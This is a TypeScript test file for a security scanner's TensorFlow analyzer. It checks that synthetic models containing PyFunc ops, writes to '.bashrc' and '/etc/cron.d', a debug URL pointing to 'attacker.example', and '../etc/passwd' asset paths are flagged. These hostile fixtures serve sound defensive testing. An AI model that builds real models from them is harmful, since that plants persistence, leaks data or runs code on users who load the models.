import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, describe, expect, it } from "vitest";
import type { AnalyzerContext, FindingInput } from "../analyzer.js";
import { MalformedError } from "../../core/errors.js";
import type { Finding } from "../../core/finding.js";
import { DEFAULT_LIMITS } from "../../core/limits.js";
import { createBufferSource } from "../../core/source.js";
import { createFinding, scan } from "../../scan/scan.js";
import { graphDefFile, metaGraphFile, savedModel, tf1Model, tf2Model, type Node } from "../../../test/fixtures/tensorflow/build.js";
import { tensorflowAnalyzer } from "./analyzer.js";

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), "../../..");
const CORPUS = resolve(ROOT, "..", "shared", "corpus", "modelaudit", "tests", "assets", "samples", "tensorflow");
const tmp = mkdtempSync(join(tmpdir(), "modelgate-tf-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

async function analyze(buf: Buffer, name = "saved_model.pb"): Promise<{ findings: Finding[]; error?: unknown }> {
  const findings: Finding[] = [];
  const ctx: AnalyzerContext = {
    limits: DEFAULT_LIMITS,
    report: (ruleId: string, input: FindingInput) => {
      const f = createFinding(ruleId, name, undefined, input);
      findings.push(f);
      return f;
    },
    scanMember: async () => {},
    setFormat: () => {},
    chargeDecompressed: () => {},
    checkDeadline: () => {},
  };
  try {
    await tensorflowAnalyzer.analyze({ path: name, name, depth: 0, source: createBufferSource(buf) }, ctx);
    return { findings };
  } catch (error) {
    return { findings, error };
  }
}

/** Writes the bytes to a temp file and runs the whole scan (detection included). */
let n = 0;
async function scanBytes(buf: Buffer, name = "saved_model.pb"): Promise<{ format: string; findings: Finding[] }> {
  const dir = join(tmp, String(n++));
  const p = join(dir, name);
  mkdirSync(dir, { recursive: true });
  writeFileSync(p, buf);
  const report = await scan([p], { digest: false });
  return { format: report.files[0]!.format, findings: report.files[0]!.findings };
}
const ids = (fs: Finding[]): string[] => fs.map((f) => f.ruleId).sort();
const DT_STRING = 7;

describe.skipIf(!existsSync(CORPUS))("ModelAudit corpus samples", () => {
  it("safe_savedmodel/saved_model.pb (a single Const) is clean", async () => {
    const report = await scan([join(CORPUS, "safe_savedmodel", "saved_model.pb")], { digest: false });
    expect(report.files[0]!.format).toBe("tf-savedmodel");
    expect(report.files[0]!.findings).toEqual([]);
  });

  it("malicious_pyfunc/saved_model.pb is critical (PyFunc)", async () => {
    const report = await scan([join(CORPUS, "malicious_pyfunc", "saved_model.pb")], { digest: false });
    const f = report.files[0]!;
    expect(f.format).toBe("tf-savedmodel");
    expect(ids(f.findings)).toEqual(["tf/python-op"]);
    expect(f.findings[0]!.severity).toBe("critical");
    expect(f.findings[0]!.evidence).toMatchObject({ op: "PyFunc", node: "bad" });
  });
});

describe("benign SavedModels", () => {
  it("a TF2 SavedModel with its saver functions and a vocabulary asset is clean", async () => {
    const meta = tf2Model({
      functions: [
        {
          name: "__inference_<lambda>_90",
          inputs: ["asset_path"],
          nodes: [
            { name: "hash_table", op: "HashTableV2", attrs: { key_dtype: { type: DT_STRING } } },
            { name: "InitializeTableFromTextFileV2", op: "InitializeTableFromTextFileV2", inputs: ["hash_table:table_handle:0", "asset_path"] },
          ],
        },
      ],
      assets: [{ tensor: "asset_path_initializer:0", filename: "vocab.txt" }],
    });
    const r = await scanBytes(savedModel(meta));
    expect(r.format).toBe("tf-savedmodel");
    expect(r.findings).toEqual([]);
  });

  it("a TF1 SavedModel with a save/ scope saver is clean", async () => {
    const r = await scanBytes(savedModel(tf1Model()));
    expect(r.format).toBe("tf-savedmodel");
    expect(r.findings).toEqual([]);
  });

  it("a frozen GraphDef of standard ops is clean, whatever its file name", async () => {
    const g = graphDefFile({ nodes: [{ name: "x", op: "Placeholder" }, { name: "w", op: "Const", attrs: { value: { tensorFloat: [1, 2, 3, 4] } } }, { name: "y", op: "MatMul", inputs: ["x", "w"] }] });
    const r = await scanBytes(g, "frozen_inference_graph.bin");
    expect(r.format).toBe("tf-savedmodel");
    expect(r.findings).toEqual([]);
  });

  it("a TF1 .meta MetaGraphDef is recognised and clean", async () => {
    const r = await scanBytes(metaGraphFile(tf1Model()), "model.ckpt-1000.meta");
    expect(r.format).toBe("tf-savedmodel");
    expect(r.findings).toEqual([]);
  });

  it("function calls by name (node op = library function) are not custom ops", async () => {
    const meta = tf2Model({ graphNodes: [{ name: "call", op: "my_fn_42" }], functions: [{ name: "my_fn_42", nodes: [{ name: "a", op: "Relu" }] }] });
    expect((await analyze(savedModel(meta))).findings).toEqual([]);
  });
});

describe("malicious graphs", () => {
  const withServing = (nodes: Node[]) => savedModel(tf2Model({ servingNodes: nodes }));

  it("PyFunc inside the serving function: critical, with function and token evidence", async () => {
    const { findings } = await analyze(withServing([{ name: "py", op: "PyFunc", inputs: ["x"], attrs: { token: { s: "pyfunc_0" } } }]));
    expect(ids(findings)).toEqual(["tf/python-op"]);
    expect(findings[0]!.severity).toBe("critical");
    expect(findings[0]!.evidence).toMatchObject({ op: "PyFunc", function: "__inference_signature_wrapper_120", token: "pyfunc_0" });
  });

  it("EagerPyFunc named in a call op's `f` attribute instead of a function", async () => {
    const meta = tf2Model({ graphNodes: [{ name: "sneaky", op: "StatefulPartitionedCall", attrs: { f: { func: "EagerPyFunc", attrs: { token: { s: "t" } } } } }] });
    const { findings } = await analyze(savedModel(meta));
    expect(ids(findings)).toEqual(["tf/python-op"]);
    expect(findings[0]!.message).toContain("attribute f");
  });

  it("WriteFile with a constant path: critical file write naming the path", async () => {
    const { findings } = await analyze(
      withServing([
        { name: "path", op: "Const", attrs: { dtype: { type: DT_STRING }, value: { tensorString: "/home/user/.bashrc" } } },
        { name: "w", op: "WriteFile", inputs: ["path:output:0", "x"] },
      ]),
    );
    expect(ids(findings)).toEqual(["tf/file-write-op"]);
    expect(findings[0]!.evidence).toMatchObject({ op: "WriteFile", input: "/home/user/.bashrc" });
  });

  it("ReadFile and MatchingFiles: high file reads", async () => {
    const { findings } = await analyze(withServing([{ name: "r", op: "ReadFile", inputs: ["x"] }, { name: "m", op: "MatchingFiles", inputs: ["x"] }]));
    expect(ids(findings)).toEqual(["tf/file-read-op", "tf/file-read-op"]);
    expect(findings.every((f) => f.severity === "high")).toBe(true);
  });

  it("SaveV2 outside the saver (in the serving function): critical", async () => {
    const { findings } = await analyze(withServing([{ name: "s", op: "SaveV2", inputs: ["x", "n", "s", "t"] }]));
    expect(ids(findings)).toEqual(["tf/file-write-op"]);
    expect(findings[0]!.message).toContain("outside the SavedModel's own saver");
  });

  it("checkpoint op in the saver scope of a TF1 model but writing to a constant absolute prefix", async () => {
    const meta = tf1Model({
      graphNodes: [
        { name: "save/evil_prefix", op: "Const", attrs: { dtype: { type: DT_STRING }, value: { tensorString: "/etc/cron.d/job" } } },
        { name: "save/SaveV2_1", op: "SaveV2", inputs: ["save/evil_prefix", "a", "b", "c"] },
      ],
    });
    const { findings } = await analyze(savedModel(meta));
    expect(ids(findings)).toEqual(["tf/file-write-op"]);
    expect(findings[0]!.evidence).toMatchObject({ node: "save/SaveV2_1", input: "/etc/cron.d/job" });
  });

  it("checkpoint ops in a frozen GraphDef are findings (no saver to excuse them)", async () => {
    const g = graphDefFile({ nodes: [{ name: "p", op: "Placeholder" }, { name: "r", op: "RestoreV2", inputs: ["p", "n", "s"] }] });
    const { findings } = await analyze(g, "frozen.pb");
    expect(ids(findings)).toEqual(["tf/file-read-op"]);
  });

  it("custom ops: high, once per op with a count", async () => {
    const { findings } = await analyze(withServing([{ name: "a", op: "Addons>GatherTree" }, { name: "b", op: "Addons>GatherTree" }, { name: "c", op: "MyNativeOp" }]));
    expect(ids(findings)).toEqual(["tf/custom-op", "tf/custom-op"]);
    expect(findings.find((f) => f.evidence?.op === "Addons>GatherTree")?.evidence?.count).toBe(2);
    expect(findings[0]!.severity).toBe("high");
  });

  it("debugger ops, PrintV2 to a file, cache files and tf.data service", async () => {
    const { findings } = await analyze(
      withServing([
        { name: "dbg", op: "DebugIdentity", inputs: ["x"], attrs: { debug_urls: { listS: ["grpc://attacker.example:6064"] } } },
        { name: "p1", op: "PrintV2", inputs: ["x"], attrs: { output_stream: { s: "file:///tmp/leak.txt" } } },
        { name: "p2", op: "PrintV2", inputs: ["x"], attrs: { output_stream: { s: "stderr" } } },
        { name: "empty", op: "Const", attrs: { dtype: { type: DT_STRING }, value: { tensorString: "" } } },
        { name: "c1", op: "CacheDatasetV2", inputs: ["ds", "empty:output:0", "cache"] },
        { name: "c2", op: "CacheDatasetV2", inputs: ["ds", "x", "cache"] },
        { name: "svc", op: "DataServiceDatasetV4", inputs: ["a", "b", "c"] },
      ]),
    );
    expect(ids(findings)).toEqual(["tf/debug-op", "tf/file-write-op", "tf/file-write-op", "tf/network-op"]);
    expect(findings.find((f) => f.ruleId === "tf/debug-op")?.evidence?.debug_urls).toBe("grpc://attacker.example:6064");
    const writes = findings.filter((f) => f.ruleId === "tf/file-write-op").map((f) => f.evidence?.node);
    expect(writes.sort()).toEqual(["c2", "p1"]);
  });

  it("InitializeTableFromTextFile without shipped assets is a file read", async () => {
    const { findings } = await analyze(withServing([{ name: "init", op: "InitializeTableFromTextFileV2", inputs: ["t", "x"] }]));
    expect(ids(findings)).toEqual(["tf/file-read-op"]);
  });

  it("asset paths leaving the assets folder", async () => {
    const meta = tf2Model({ assets: [{ tensor: "a:0", filename: "../../../etc/passwd" }, { tensor: "b:0", filename: "vocab.txt" }, { tensor: "c:0", filename: "https://x.example/v" }] });
    const { findings } = await analyze(savedModel(meta));
    expect(findings.map((f) => [f.ruleId, f.severity])).toEqual([
      ["tf/asset-path-traversal", "critical"],
      ["tf/asset-path-traversal", "high"],
    ]);
  });

  it("TF1 asset lists in the saved_model_assets collection are checked too", async () => {
    const meta = { ...tf1Model(), assetCollection: [{ tensor: "asset_path:0", filename: "vocab.txt" }, { tensor: "evil:0", filename: "/etc/passwd" }] };
    const { findings, error } = await analyze(savedModel(meta));
    expect(error).toBeUndefined();
    expect(findings.map((f) => [f.ruleId, f.evidence?.filename])).toEqual([["tf/asset-path-traversal", "/etc/passwd"]]);
  });

  it("checks every meta graph of a SavedModel", async () => {
    const bad = tf2Model({ servingNodes: [{ name: "py", op: "PyFuncStateless" }] });
    const { findings } = await analyze(savedModel(tf2Model(), { ...bad, tags: ["train"] }));
    expect(ids(findings)).toEqual(["tf/python-op"]);
  });
});

describe("robustness", () => {
  it("a truncated SavedModel keeps the findings made before the cut", async () => {
    const full = savedModel(tf2Model({ servingNodes: [{ name: "py", op: "PyFunc" }] }));
    const cut = full.subarray(0, Math.floor(full.length * 0.6));
    const { findings, error } = await analyze(cut);
    expect(error).toBeInstanceOf(MalformedError);
    expect(ids(findings)).toEqual(["tf/python-op"]);
  });

  it("scan() turns the truncation into scanner/unparseable next to the kept finding", async () => {
    const full = savedModel(tf2Model({ servingNodes: [{ name: "py", op: "PyFunc" }] }));
    const r = await scanBytes(full.subarray(0, Math.floor(full.length * 0.6)));
    expect(r.format).toBe("tf-savedmodel");
    expect(ids(r.findings)).toEqual(["scanner/unparseable", "tf/python-op"]);
  });

  it("reads a few KiB of a graph whose constants hold 64 MiB", async () => {
    const big = new Array<number>(16 * 1024 * 1024).fill(0);
    const g = graphDefFile({ nodes: [{ name: "w", op: "Const", attrs: { value: { tensorFloat: big } } }, { name: "y", op: "Identity", inputs: ["w"] }] });
    const source = createBufferSource(g);
    const findings: Finding[] = [];
    await tensorflowAnalyzer.analyze(
      { path: "f.pb", name: "f.pb", depth: 0, source },
      {
        limits: DEFAULT_LIMITS,
        report: (id, input) => {
          const f = createFinding(id, "f.pb", undefined, input);
          findings.push(f);
          return f;
        },
        scanMember: async () => {},
        setFormat: () => {},
        chargeDecompressed: () => {},
        checkDeadline: () => {},
      },
    );
    expect(findings).toEqual([]);
    expect(source.counter.bytesRead).toBeLessThan(256 * 1024);
  });
});
